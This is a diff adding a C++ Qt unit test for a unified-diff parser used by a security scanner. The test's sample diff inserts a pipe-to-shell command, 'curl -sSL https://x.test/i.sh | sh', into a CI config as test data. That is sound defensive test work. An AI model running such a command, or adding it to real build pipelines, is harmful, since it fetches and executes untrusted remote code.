@@ -1,6 +1,7 @@
 #include "CommandRun.h"
 #include "shared/analysis/SecretScanner.h"
 #include "shared/analysis/SecurityScan.h"
+#include "shared/analysis/UnifiedDiff.h"
 
 #include <QDir>
 #include <QFile>
@@ -201,6 +202,53 @@ private Q_SLOTS:
         QVERIFY2(clean.out.contains(QStringLiteral("2 files scanned; nothing found.")), qPrintable(clean.out));
         QCOMPARE(runCommand(QStringLiteral("adp"), {"ai", "scan"}, {}, environment).code, 2);
         QCOMPARE(runCommand(QStringLiteral("adp"), {"ai", "scan", "/nonexistent/folder"}, {}, environment).code, 1);
+    }
+
+    // What a review keeps of git's diff: each file's new path and the lines the change added,
+    // numbered in the new file, across hunks; deleted and binary files said so.
+    void unifiedDiffsAddedLines()
+    {
+        const QByteArray diff = "diff --git a/.gitlab-ci.yml b/.gitlab-ci.yml\n"
+                                "index 1111111..2222222 100644\n"
+                                "--- a/.gitlab-ci.yml\n"
+                                "+++ b/.gitlab-ci.yml\n"
+                                "@@ -1,3 +1,4 @@\n"
+                                " build:\n"
+                                "+  image: node:latest\n"
+                                "   script:\n"
+                                "-    - make\n"
+                                "+    - curl -sSL https://x.test/i.sh | sh\n"
+                                "@@ -20,2 +21,3 @@ deploy:\n"
+                                "   script:\n"
+                                "+    - ./deploy\n"
+                                "     - echo done\n"
+                                "\\ No newline at end of file\n"
+                                "diff --git a/old.txt b/old.txt\n"
+                                "deleted file mode 100644\n"
+                                "--- a/old.txt\n"
+                                "+++ /dev/null\n"
+                                "@@ -1 +0,0 @@\n"
+                                "-gone\n"
+                                "diff --git a/logo.png b/logo.png\n"
+                                "Binary files a/logo.png and b/logo.png differ\n"
+                                "diff --git a/src/new.c b/src/new.c\n"
+                                "new file mode 100644\n"
+                                "--- /dev/null\n"
+                                "+++ b/src/new.c\n"
+                                "@@ -0,0 +1,2 @@\n"
+                                "+int a;\n"
+                                "+int b;";
+        const auto files = adp::shared::analysis::UnifiedDiff::parse(diff);
+        QCOMPARE(files.size(), 4);
+        QCOMPARE(files.at(0).path, QStringLiteral(".gitlab-ci.yml"));
+        QCOMPARE(files.at(0).addedLines, (QSet<int>{2, 4, 22}));
+        QCOMPARE(files.at(1).path, QStringLiteral("old.txt"));
+        QVERIFY(files.at(1).deleted);
+        QVERIFY(files.at(1).addedLines.isEmpty());
+        QVERIFY(files.at(2).binary);
+        QCOMPARE(files.at(3).path, QStringLiteral("src/new.c"));
+        QCOMPARE(files.at(3).addedLines, (QSet<int>{1, 2}));
+        QVERIFY(adp::shared::analysis::UnifiedDiff::parse("not a diff\n+but this looks added\n").isEmpty());
     }
 };
 
